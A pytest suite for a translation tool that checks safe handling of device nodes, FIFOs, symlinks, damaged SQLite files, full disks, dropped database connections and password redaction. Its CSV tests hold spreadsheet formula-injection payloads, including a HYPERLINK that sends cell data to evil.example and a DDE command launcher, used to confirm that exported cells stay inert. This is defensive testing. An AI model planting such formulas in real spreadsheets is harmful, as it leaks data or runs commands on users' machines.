"""Nothing a desk does destroys work: outputs onto anything, damaged state files, links and loops, repairs.

Device nodes and FIFOs are made here with os.mknod/os.mkfifo in the test's own
folder (the system's /dev is never touched); a node that needs root is skipped
with the reason when mknod is not permitted.
"""

from __future__ import annotations

import os
import sqlite3
import stat
import threading
from pathlib import Path

import pytest

from conftest import pg_schema, run_transflow
from transflow.exchange.tmx import write as write_tmx
from transflow.memory import TMUnit, open_memory

NULL, FULL = os.makedev(1, 3), os.makedev(1, 7)


def one_line(result, code: int, fragment: str) -> None:
    assert result.code == code, (result.stdout, result.stderr)
    lines = [line for line in result.stderr.strip().splitlines() if not line.startswith("transflow: note:")]
    assert len(lines) == 1 and fragment in lines[0], result.stderr
    assert "Traceback" not in result.stderr


def mknod(path: Path, kind: int, device: int = 0) -> Path:
    try:
        os.mknod(path, kind | 0o666, device)
    except PermissionError:
        pytest.skip("making device nodes needs root (CAP_MKNOD)")
    return path


@pytest.fixture
def desk(project, cli):
    """A project with a translated article (PO and XLIFF), a glossary and a TM holding one en→vi unit."""
    Path("glossary.csv").write_text("en,vi\nASEAN,ASEAN\n", encoding="utf-8")
    Path("transflow.toml").write_text('[glossary]\nfiles = ["glossary.csv"]\n', encoding="utf-8")
    assert cli("translate", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none", "--format", "po").code == 0
    write_tmx(Path("seed.tmx"), [TMUnit("en", "vi", "Other news", "Tin khác")], "en", "vi")
    assert cli("tm", "import", "seed.tmx").code == 0
    return project


# Every output option (OUT stands for the output), by the extension its format needs, and how its output starts.
OUTPUTS = {
    "build -o": ("build sample_articles/asean-japan.txt --lang vi --min-translated 0 -o OUT", "out.txt", b"ASEAN"),
    "tm export": ("tm export OUT --from en --to vi", "out.tmx", b"<?xml"),
    "convert": ("convert locales/vi/asean-japan.po OUT", "out.xlf", b"<?xml"),
    "glossary convert": ("glossary convert glossary.csv OUT", "out.tbx", b"<?xml"),
    "glossary suggest -o": ("glossary suggest sample_articles/asean-japan.txt --to vi --engine none -o OUT", "out.csv", b"en,"),
    "batch --report": ("batch sample_articles/mekong-summit.md --to vi --engine none --report OUT", "out.json", b"["),
}


def command(case: str, target: Path | str) -> list[str]:
    return [str(target) if word == "OUT" else word for word in OUTPUTS[case][0].split()]


@pytest.mark.parametrize("case", sorted(OUTPUTS))
def test_every_output_option_streams_into_a_character_device_and_leaves_it_a_device(desk, cli, case):
    node = mknod(Path(OUTPUTS[case][1]), stat.S_IFCHR, NULL)
    result = cli(*command(case, node))
    assert result.code == 0, result.stderr
    assert stat.S_ISCHR(node.lstat().st_mode) and node.stat().st_rdev == NULL
    assert not list(Path(".").glob(".out.*.tmp"))


@pytest.mark.parametrize("case", sorted(OUTPUTS))
def test_every_output_option_streams_into_a_fifo(desk, cli, case):
    fifo = Path(OUTPUTS[case][1])
    os.mkfifo(fifo)
    received = bytearray()
    reader = threading.Thread(target=lambda: received.extend(open(fifo, "rb").read()), daemon=True)
    reader.start()
    result = cli(*command(case, fifo))
    reader.join(30)
    assert result.code == 0, result.stderr
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert bytes(received).lstrip(b"\xef\xbb\xbf").startswith(OUTPUTS[case][2]), bytes(received[:80])


@pytest.mark.parametrize("case", sorted(OUTPUTS))
def test_every_output_option_refuses_a_folder_and_a_block_device(desk, cli, case):
    folder = Path(OUTPUTS[case][1])
    folder.mkdir()
    one_line(cli(*command(case, folder)), 2, "a folder")
    assert folder.is_dir() and not any(folder.iterdir())
    block = mknod(Path("disk" + folder.suffix), stat.S_IFBLK, os.makedev(7, 200))
    one_line(cli(*command(case, block)), 2, "a block device")
    assert stat.S_ISBLK(block.lstat().st_mode)


@pytest.mark.parametrize("case", ["tm export", "batch --report", "glossary suggest -o"])
def test_a_link_to_a_regular_file_keeps_the_link_and_replaces_the_file(desk, cli, case):
    real = Path("kept") / OUTPUTS[case][1]
    real.parent.mkdir()
    real.write_text("old", encoding="utf-8")
    link = Path("link" + real.suffix)
    link.symlink_to(real.resolve())
    assert cli(*command(case, link)).code == 0
    assert link.is_symlink() and real.read_bytes().lstrip(b"\xef\xbb\xbf").startswith(OUTPUTS[case][2])
    dead = Path("dead" + real.suffix)
    dead.symlink_to(Path("nowhere/at/all").resolve())
    one_line(cli(*command(case, dead)), 2, "a symbolic link to nothing")
    assert dead.is_symlink() and not dead.exists()


def test_a_full_device_is_said_in_one_line_and_stays_a_device(desk, cli):
    full = mknod(Path("full.json"), stat.S_IFCHR, FULL)
    result = cli(*command("batch --report", full))
    assert result.code == 1 and "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("transflow: error:")]
    assert errors == ["transflow: error: full.json: the device is full (no space left); what was written into it is incomplete"]
    assert stat.S_ISCHR(full.lstat().st_mode) and full.stat().st_rdev == FULL


@pytest.mark.parametrize("case", ["tm export", "convert"])
def test_a_link_to_proc_self_fd_1_writes_to_stdout(desk, case):
    link = Path("stdout" + OUTPUTS[case][1][3:])
    link.symlink_to("/proc/self/fd/1")
    result = run_transflow(*command(case, link))
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("<?xml") and link.is_symlink() and os.readlink(link) == "/proc/self/fd/1"
    assert "wrote" in result.stderr  # the report goes to stderr, not into the file


def test_export_bundle_streams_into_a_device_and_refuses_a_folder(project, cli, installed_models):
    node = mknod(Path("bundle.zip"), stat.S_IFCHR, NULL)
    assert cli("models", "export-bundle", str(node)).code == 0
    assert stat.S_ISCHR(node.lstat().st_mode)
    Path("folder.zip").mkdir()
    one_line(cli("models", "export-bundle", "folder.zip"), 2, "a folder")


# Outputs onto inputs ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "target, fragment",
    [
        ("sample_articles/asean-japan.txt", "an input of this run"),
        ("locales/vi/asean-japan.po", "a translation file"),
        ("transflow.toml", "the project settings"),
        (".transflow/tm.sqlite", "project state"),
        ("glossary.csv", "an input of this run"),
    ],
)
def test_glossary_suggest_never_writes_over_an_input_or_project_file(desk, cli, target, fragment):
    before = Path(target).read_bytes()
    result = cli("glossary", "suggest", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none", "-o", target)
    one_line(result, 2, fragment)
    assert Path(target).read_bytes() == before


def test_glossary_suggest_from_reviews_never_writes_into_the_reviews(desk, cli):
    Path("reviewed").mkdir()
    Path("reviewed/story.po").write_bytes(Path("locales/vi/asean-japan.po").read_bytes())
    before = Path("reviewed/story.po").read_bytes()
    one_line(cli("glossary", "suggest", "--from-reviews", "reviewed", "-o", "reviewed/story.po"), 2, "a folder this run reads")
    one_line(cli("glossary", "suggest", "--from-reviews", "locales", "-o", "locales/vi/asean-japan.po"), 2, "destroy")
    one_line(cli("glossary", "suggest", "--from-reviews", "reviewed", "-o", "transflow.toml"), 2, "the project settings")
    assert Path("reviewed/story.po").read_bytes() == before


@pytest.mark.parametrize("target", ["locales/vi/asean-japan.po", "sample_articles/asean-japan.txt", "transflow.toml", "glossary.csv"])
def test_tm_repair_refuses_a_file_that_is_not_a_tm(desk, cli, target):
    before = Path(target).read_bytes()
    one_line(cli("tm", "repair", "--tm", target), 2, "not a translation memory")
    assert Path(target).read_bytes() == before
    assert not list(Path(target).parent.glob("*.damaged-*"))


def test_tm_repair_refuses_another_sqlite_database(desk, cli):
    assert cli("batch", "sample_articles/mekong-summit.md", "--to", "vi", "--engine", "none").code == 0
    before = Path(".transflow/manifest.sqlite").read_bytes()
    one_line(cli("tm", "repair", "--tm", ".transflow/manifest.sqlite"), 2, "an SQLite database but not a translation memory")
    assert Path(".transflow/manifest.sqlite").read_bytes() == before


@pytest.mark.parametrize("url", ["sqlite:///x.sqlite", "file:///tmp/x", "mysql://u@h/db"])
def test_a_tm_url_transflow_does_not_know_is_refused_not_made_a_folder(desk, cli, url):
    for args in (["tm", "repair", "--tm", url], ["tm", "stats", "--tm", url], ["tm", "copy", ".transflow/tm.sqlite", url]):
        one_line(cli(*args), 2, "not a TM location transflow knows")
    assert not Path("sqlite:").exists() and not Path("file:").exists() and not Path("mysql:").exists()


# tm repair tells the truth -----------------------------------------------------------------

UNITS = 6000


def filled_tm(path: Path) -> None:
    with open_memory(path) as memory:
        memory.add([TMUnit("en", "vi", f"Sentence number {n} about trade.", f"Câu số {n} về thương mại.") for n in range(UNITS)])
    with sqlite3.connect(path) as db:
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")


def garble(path: Path, start: int, length: int) -> None:
    data = bytearray(path.read_bytes())
    data[start : start + length] = bytes((i * 7 + 3) % 256 for i in range(length))
    path.write_bytes(bytes(data))


def kept(cli) -> int:
    table = cli("tm", "stats")
    assert table.code == 0, table.stderr
    return int(next(line for line in table.stdout.splitlines() if " vi " in line).split("│")[3])


def test_tm_repair_on_a_healthy_tm_says_healthy_and_changes_nothing(project, cli):
    tm = Path(".transflow/tm.sqlite")
    filled_tm(tm)
    before = tm.read_bytes()
    result = cli("tm", "repair")
    assert result.code == 0 and "healthy (6000 translation units); nothing was changed" in result.stdout, result.stdout
    assert tm.read_bytes() == before and not list(tm.parent.glob("*.damaged-*"))


@pytest.mark.parametrize("where", ["header", "first page", "middle", "tail", "half file"])
def test_tm_repair_recovers_what_is_readable_and_reports_the_real_loss(project, cli, where):
    tm = Path(".transflow/tm.sqlite")
    filled_tm(tm)
    size = tm.stat().st_size
    if where == "header":
        garble(tm, 0, 100)
    elif where == "first page":
        garble(tm, 0, 4096)
    elif where == "middle":
        garble(tm, (size // 4096 // 3) * 4096, 3 * 4096)
    elif where == "tail":
        garble(tm, size - 2 * 4096, 2 * 4096)
    else:
        os.truncate(tm, (size // 4096 // 2) * 4096)
    result = cli("tm", "repair")
    assert result.code == 0, result.stderr
    recovered = kept(cli)
    line = result.stdout
    assert f"{recovered} translation units kept" in line
    if where in ("header", "first page"):
        assert recovered == UNITS  # the rows behind a damaged header are all read from their pages
    if "could not be counted" not in line:
        assert f"{UNITS - recovered} of its {UNITS} units could not be read" in line or (recovered == UNITS and "no unit was lost" in line), line
    else:
        assert "could not be read" not in line
    assert recovered > UNITS // 3
    assert list(tm.parent.glob("tm.sqlite.damaged-*"))


# Damaged manifest and MT cache: mended, and the batch goes on ---------------------------


@pytest.mark.parametrize("name", ["manifest.sqlite", "mt-cache.sqlite"])
@pytest.mark.parametrize("where", ["header", "middle", "tail"])
def test_a_damaged_state_file_is_started_afresh_and_the_batch_goes_on(project, cli, installed_models, name, where):
    articles = [f"today/story{n}.txt" for n in range(40)]
    Path("today").mkdir()
    for n, article in enumerate(articles):
        Path(article).write_text(f"Story {n} is about the summit in Hanoi number {n}.\n\nMinisters met on day {n}.\n", encoding="utf-8")
    assert cli("batch", "today", "--to", "vi").code == 0
    state = Path(".transflow", name)
    with sqlite3.connect(state) as db:
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    size = state.stat().st_size
    start = {"header": 0, "middle": (size // 4096 // 2) * 4096, "tail": size - 4096}[where]
    garble(state, start, 4096 if where != "header" else 100)
    for n in range(3):
        Path(f"today/story{n}.txt").write_text(f"Changed story {n}.\n", encoding="utf-8")
    result = cli("batch", "today", "--to", "vi")
    assert result.code == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert Path("locales/vi/today/story0.po").exists() or Path("locales/vi/story0.po").exists()
    notes = [line for line in result.stderr.splitlines() if line.startswith("transflow: note:")]
    assert len(notes) == 1 and "started afresh" in notes[0], result.stderr
    again = cli("batch", "today", "--to", "vi")
    assert again.code == 0 and "transflow: note:" not in again.stderr and "unchanged, skipped" in again.stderr


# Links and loops ---------------------------------------------------------------------------


def test_a_symlink_loop_under_a_glob_ends_and_a_linked_folder_is_searched(project, cli):
    Path("today/a/b").mkdir(parents=True)
    Path("elsewhere").mkdir()
    Path("today/a/b/first.txt").write_text("The summit opened today.\n", encoding="utf-8")
    Path("elsewhere/second.txt").write_text("Ministers met in Hanoi.\n", encoding="utf-8")
    Path("today/a/b/loop").symlink_to(Path("today/a").resolve())
    Path("today/linked").symlink_to(Path("elsewhere").resolve())
    Path("today/dead.txt").symlink_to(Path("gone.txt").resolve())
    for pattern in ("today/**/*.txt", "today"):
        result = run_transflow("batch", pattern, "--to", "vi", "--engine", "none")
        assert result.returncode == 0, result.stderr
        assert "today/a/b/first.txt" in result.stderr and "second.txt" in result.stderr
        assert "today/a/b/loop: a link to" in result.stderr and "not searched again" in result.stderr
        assert "today/dead.txt: a link to nothing; skipped" in result.stderr


def test_a_folder_named_like_an_article_is_one_line(project, cli):
    Path("x.txt").mkdir()
    one_line(cli("translate", "x.txt", "--to", "vi", "--engine", "none"), 2, "x.txt: is a folder")
    assert not Path("locales").exists()


def test_jobs_beyond_any_machine_is_refused_before_work(project, cli, installed_models):
    one_line(cli("batch", "sample_articles/asean-japan.txt", "--to", "vi", "--jobs", "100000"), 2, "--jobs 100000: at most 64")
    Path("transflow.toml").write_text("[engine]\ninter_threads = 100000\n", encoding="utf-8")
    one_line(cli("translate", "sample_articles/asean-japan.txt", "--to", "vi"), 2, "inter_threads = 100000")
    assert not Path("locales").exists()


def test_a_killed_writers_leftover_beside_a_po_is_removed_by_a_later_batch_that_writes_nothing_there(project, cli):
    assert cli("batch", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none").code == 0
    leftover = Path("locales/vi/.asean-japan.po.k1ll3d9x.tmp")
    leftover.write_text("half a PO", encoding="utf-8")
    os.utime(leftover, (1, 1))
    rerun = run_transflow("batch", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none")
    assert "unchanged, skipped" in rerun.stderr and not leftover.exists()


# CSV cells never run as formulas -----------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "=1+1", "+84 hotline", "-ism", "@handle", "'-quoted", "=cmd|' /C calc'!A0"]


def test_glossary_csv_cells_are_inert_in_a_spreadsheet_and_read_back_exactly(project, cli):
    import csv
    from transflow import glossary as glossaries
    from transflow.glossary import Entry, Glossary, Term

    glossaries.write(Glossary([Entry({"en": [Term(text)], "vi": [Term(f"vi {n}")]}, note=text) for n, text in enumerate(HOSTILE)]), Path("in.tbx"))
    assert cli("glossary", "convert", "in.tbx", "out.csv").code == 0
    rows = list(csv.reader(open("out.csv", encoding="utf-8", newline="")))
    assert all(not cell[:1] or cell[0] not in "=+-@\t\r" for row in rows for cell in row), rows
    back = glossaries.load([Path("out.csv")])
    assert [("|".join(t.text for t in e.terms["en"]), e.note) for e in back.entries] == [(text, text) for text in HOSTILE]
    assert cli("glossary", "convert", "out.csv", "again.tbx").code == 0
    assert ["|".join(t.text for t in e.terms["en"]) for e in glossaries.load([Path("again.tbx")]).entries] == HOSTILE
    shown = libreoffice_cells(Path("out.csv"))
    assert "'=1+1" in shown and "2" not in shown and "click" not in shown  # shown as text, never computed


def test_glossary_suggest_examples_from_an_article_are_inert(project, cli):
    import csv

    Path("attack.txt").write_text("=HYPERLINK(\"http://evil.example\",\"Nguyen Van An\") met ASEAN ministers in Hanoi.\n\n@Nguyen Van An spoke.\n", encoding="utf-8")
    assert cli("glossary", "suggest", "attack.txt", "--to", "vi", "--engine", "none", "-o", "candidates.csv").code == 0
    cells = [cell for row in csv.reader(open("candidates.csv", encoding="utf-8", newline="")) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert all(not cell[:1] or cell[0] not in "=+-@\t\r" for cell in cells)


def libreoffice_cells(path: Path) -> list[str]:
    """The cells LibreOffice Calc shows for a CSV, read from its HTML export (formulas would show their results)."""
    import html
    import re
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    profile = path.resolve().parent / "lo-profile"
    done = subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to", "html", "--outdir", str(path.parent), str(path)],
        capture_output=True, text=True, timeout=180,
    )
    exported = path.with_suffix(".html")
    if not exported.exists():
        pytest.skip(f"LibreOffice Calc could not open the CSV (is libreoffice-calc installed?): {done.stderr.strip()[:200]}")
    text = exported.read_text(encoding="utf-8", errors="replace")
    return [html.unescape(re.sub("<[^>]+>", "", cell)).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", text, re.S)]


# Passwords never printed ----------------------------------------------------------------------


@pytest.mark.parametrize("url", [
    "postgresql://transflow@127.0.0.1:1/transflow?password=hunter2",
    "postgresql://transflow@127.0.0.1:1/transflow?sslmode=disable&password=hunter2&application_name=x",
    "postgresql://transflow:hunter2@127.0.0.1:1/transflow",
])
def test_a_password_in_a_tm_url_is_never_printed(project, cli, url):
    for args in (["tm", "stats", "--tm", url], ["tm", "copy", url, "copy.sqlite"], ["tm", "export", "x.tmx", "--from", "en", "--to", "vi", "--tm", url]):
        result = cli(*args)
        assert result.code != 0 and "hunter2" not in result.stderr + result.stdout and "***" in result.stderr, result.stderr
    from transflow.memory import redact

    assert redact("mysql://u:hunter2@h/db?PASSWORD=hunter2") == "mysql://u:***@h/db?PASSWORD=***"


# PostgreSQL: restricted roles, foreign tables, a server that goes away ----------------------

@pytest.fixture(name="pg_schema")
def pg_schema_fixture():
    """(admin connection, schema, URL whose tables live in that fresh schema)."""
    yield from pg_schema("tm_safety")


def test_a_role_without_create_on_the_schema_opens_an_existing_tm(project, cli, pg_schema):
    admin, schema, url = pg_schema
    with open_memory(url) as memory:
        memory.add([TMUnit("en", "vi", "Other news", "Tin khác")])
    admin.execute(f"REVOKE CREATE ON SCHEMA {schema} FROM CURRENT_USER")  # full rights on the tables, no DDL
    assert cli("tm", "import", "--tm", url, write_seed()).code == 0
    stats = cli("tm", "stats", "--tm", url)
    assert stats.code == 0 and "│ 2 " in stats.stdout, stats.stderr
    assert cli("tm", "export", "out.tmx", "--from", "en", "--to", "vi", "--tm", url).code == 0


def write_seed() -> str:
    write_tmx(Path("seed.tmx"), [TMUnit("en", "vi", "Weather today", "Thời tiết hôm nay")], "en", "vi")
    return "seed.tmx"


def test_a_tm_units_table_of_another_shape_is_one_line(project, cli, pg_schema):
    admin, schema, url = pg_schema
    admin.execute(f"CREATE TABLE {schema}.tm_units (id integer PRIMARY KEY, body text)")
    admin.execute(f"INSERT INTO {schema}.tm_units VALUES (1, 'someone else''s data')")
    for args in (["tm", "export", "out.tmx", "--from", "en", "--to", "vi"], ["tm", "stats"], ["tm", "copy", url, "copy.sqlite"]):
        result = cli(*args, *(["--tm", url] if args[1] != "copy" else []))
        one_line(result, 2, "is not a transflow TM")
    assert admin.execute(f"SELECT body FROM {schema}.tm_units").fetchall() == [("someone else's data",)]
    assert not Path("out.tmx").exists()


class Cutter:
    """A TCP relay to the PostgreSQL server that drops both sides once the server has sent *limit* bytes: a server dying mid-stream."""

    def __init__(self, target: tuple[str, int], limit: int) -> None:
        import socket

        self.target, self.limit, self.sent = target, limit, 0
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        import socket

        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            server = socket.create_connection(self.target)
            threading.Thread(target=self._pump, args=(client, server, False), daemon=True).start()
            threading.Thread(target=self._pump, args=(server, client, True), daemon=True).start()

    def _pump(self, source, sink, counted: bool) -> None:
        try:
            while data := source.recv(65536):
                if counted:
                    self.sent += len(data)
                    if self.sent > self.limit:
                        break
                sink.sendall(data)
        except OSError:
            pass
        import socket

        for end in (source, sink):
            try:
                end.shutdown(socket.SHUT_RDWR)  # wakes the other direction's recv and sends the FIN a dying server would
                end.close()
            except OSError:
                pass

    def close(self) -> None:
        self.listener.close()


@pytest.mark.parametrize("command", ["tm export", "tm copy"])
def test_a_server_dying_mid_stream_is_one_line_and_leaves_nothing_half_written(project, cli, pg_schema, command):
    from urllib.parse import urlsplit

    admin, schema, url = pg_schema
    with open_memory(url) as memory:
        memory.add([TMUnit("en", "vi", f"Sentence number {n} about trade and ports.", f"Câu số {n} về thương mại.") for n in range(12000)])
    parts = urlsplit(url)
    cutter = Cutter((parts.hostname, parts.port or 5432), limit=400_000)
    relayed = url.replace(parts.netloc, parts.netloc.replace(f"{parts.hostname}:{parts.port or 5432}", f"127.0.0.1:{cutter.port}"))
    try:
        if command == "tm export":
            result = cli("tm", "export", "out.tmx", "--from", "en", "--to", "vi", "--tm", relayed)
            assert not Path("out.tmx").exists() and not list(Path(".").glob(".out.tmx.*"))
        else:
            result = cli("tm", "copy", relayed, "copy.sqlite")
            with open_memory(Path("copy.sqlite")) as copy:  # what was copied is a sound TM
                assert sum(row[2] for row in copy.stats()) < 12000
    finally:
        cutter.close()
    one_line(result, 1, "the TM server stopped answering")
    assert "transflow" in result.stderr and "Traceback" not in result.stderr


# A full disk -------------------------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path, monkeypatch):
    """A 16 MB tmpfs as the project folder (root may mount it); skipped, with the reason, where mounting is not permitted."""
    import shutil
    import subprocess

    from conftest import SAMPLES

    disk = tmp_path / "disk"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m", "tmpfs", str(disk)], capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs to fill ({mounted.stderr.strip() or 'mount failed'})")
    try:
        shutil.copytree(SAMPLES, disk / "sample_articles")
        monkeypatch.chdir(disk)
        yield disk
    finally:
        monkeypatch.chdir(tmp_path)
        subprocess.run(["umount", "-l", str(disk)], check=False)


def fill(disk: Path) -> Path:
    """Fill *disk* to the last byte; the filler is returned to be removed."""
    filler = disk / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o644)
    try:
        for size in (1 << 20, 65536, 4096, 1):
            try:
                while True:
                    os.write(fd, b"\0" * size)
            except OSError:
                continue
    finally:
        os.close(fd)
    return filler


WRITERS_ON_A_FULL_DISK = {
    "translate": "translate sample_articles/mekong-summit.md --to vi --engine none",
    "batch": "batch sample_articles --to ja --engine none",
    "build -o": "build sample_articles/asean-japan.txt --lang vi --min-translated 0 -o built/asean-japan.txt",
    "tm export": "tm export out.tmx --from en --to vi",
    "tm import": "tm import big.tmx",
    "convert": "convert locales/vi/asean-japan.po out.xlf",
    "glossary convert": "glossary convert glossary.csv out.tbx",
    "glossary suggest -o": "glossary suggest sample_articles/asean-japan.txt --to vi --engine none -o out.csv",
    "batch --report": "batch sample_articles/asean-japan.txt --to vi --engine none --report out.json",
    "init": "init --force",
}


@pytest.mark.parametrize("case", sorted(WRITERS_ON_A_FULL_DISK))
def test_a_full_disk_is_said_and_nothing_is_half_written_or_called_damaged(small_disk, cli, case):
    Path("glossary.csv").write_text("en,vi\nASEAN,ASEAN\n", encoding="utf-8")
    Path("transflow.toml").write_text('[glossary]\nfiles = ["glossary.csv"]\n', encoding="utf-8")
    assert cli("translate", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none").code == 0
    write_tmx(Path("seed.tmx"), [TMUnit("en", "vi", "Other news", "Tin khác")], "en", "vi")
    assert cli("tm", "import", "seed.tmx").code == 0
    write_tmx(Path("big.tmx"), [TMUnit("en", "vi", f"Sentence {n} on trade and ports.", f"Câu {n} về thương mại.") for n in range(20000)], "en", "vi")
    before = {p: p.read_bytes() for p in Path(".").rglob("*") if p.is_file() and not p.name.endswith(("-shm", "-wal"))}
    filler = fill(small_disk)
    result = cli(*WRITERS_ON_A_FULL_DISK[case].split())
    assert result.code == 1, (result.stdout, result.stderr)
    errors = [line for line in result.stderr.splitlines() if line.startswith("transflow: error:")]
    assert len(errors) == 1 and "full" in errors[0], result.stderr
    assert "damaged" not in result.stderr and "repair" not in result.stderr and "Traceback" not in result.stderr
    filler.unlink()
    assert not [p for p in Path(".").rglob("*.tmp")]
    for path, content in before.items():
        if path.suffix in (".po", ".csv", ".toml", ".tmx", ".txt"):
            assert path.read_bytes() == content, path
    healthy = cli("tm", "repair")
    assert healthy.code == 0 and "healthy" in healthy.stdout, healthy.stdout + healthy.stderr


@pytest.mark.parametrize("where", ["header", "middle", "tail"])
def test_a_damaged_tm_stops_work_with_one_line_naming_the_repair_and_touches_no_po(project, cli, where):
    assert cli("translate", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none").code == 0
    po = Path("locales/vi/asean-japan.po")
    tm = Path(".transflow/tm.sqlite")
    filled_tm(tm)
    size = tm.stat().st_size
    start, length = {"header": (0, 100), "middle": ((size // 4096 // 2) * 4096, 3 * 4096), "tail": (size - 3 * 4096, 3 * 4096)}[where]
    garble(tm, start, length)
    Path("sample_articles/asean-japan.txt").write_text("ASEAN ministers met again.\n\nSentence number 5 about trade.\n", encoding="utf-8")
    stopped = 0
    for args in (["translate", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none"], ["tm", "export", "x.tmx", "--from", "en", "--to", "vi"]):
        before = po.read_bytes()
        result = cli(*args)
        if result.code == 0:  # the damaged pages were not on this command's path
            continue
        errors = [line for line in result.stderr.splitlines() if "error" in line or "FAILED" in line]
        assert result.code == 1 and len(errors) == 1 and "transflow tm repair --tm .transflow/tm.sqlite" in errors[0], result.stderr
        assert "Traceback" not in result.stderr
        assert po.read_bytes() == before and not Path("x.tmx").exists()
        stopped += 1
    assert stopped  # the damage was met
    assert cli("tm", "repair").code == 0
    assert cli("translate", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none").code == 0
